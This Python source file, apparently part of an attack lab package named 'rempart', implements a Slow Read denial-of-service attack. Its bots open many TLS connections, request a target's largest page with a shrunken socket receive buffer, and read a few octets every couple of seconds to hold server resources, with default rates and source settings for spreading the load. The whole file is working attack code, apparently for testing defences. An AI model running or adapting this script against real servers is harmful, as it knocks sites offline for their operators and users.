"""Slow read: whole requests for the largest thing there is, and readers that take it by the spoonful. What
was made must be kept until it is read."""

from __future__ import annotations

import random

from pydantic import Field

from rempart.lab.attacks.contract import Attack, Order, Sources, Unit
from rempart.lab.attacks.dialling import Dialler, DialParameters, Manner, request_head
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender
from rempart.lab.clients.connecting import careless_tls


class SlowRead(DialParameters):
    """How slow."""

    turn_s: float = Field(default=2.0, gt=0)
    """From one look at what has come to the next, on average."""
    octets: int = Field(default=64, ge=1, le=65_536)
    """Taken at each."""
    receive_buffer: int = Field(default=2_304, ge=1_024)
    """The socket's: small, so that little is under way. The kernel takes twice as much, 2,304 octets at
    least."""


SLOW_READ = Attack(
    name="slow-read",
    unit=Unit.CONNECTIONS,
    summary="the largest page over TLS, read a few octets every few seconds",
    defaults=SlowRead(rate=150, sources=Sources.PREFIXES, v6_share=0.2),
    sender=lambda order: own_sender(order, "slow_read"),
)


def manner(order: Order, parameters: SlowRead) -> Manner:
    """What the bots do."""

    def first(chosen: random.Random) -> bytes:
        return request_head(order, chosen, "GET", order.target.large_page, "Accept: */*") + b"\r\n"

    return Manner(
        context=careless_tls("http/1.1"),
        first=first,
        turn_s=parameters.turn_s,
        reads=parameters.octets,
        receive_buffer=parameters.receive_buffer,
    )


def carry_out(order: Order, tally: Tally) -> None:
    parameters = SlowRead.model_validate(order.parameters)
    Dialler(order, parameters, manner(order, parameters), tally).run()


if __name__ == "__main__":
    run_sender(carry_out)
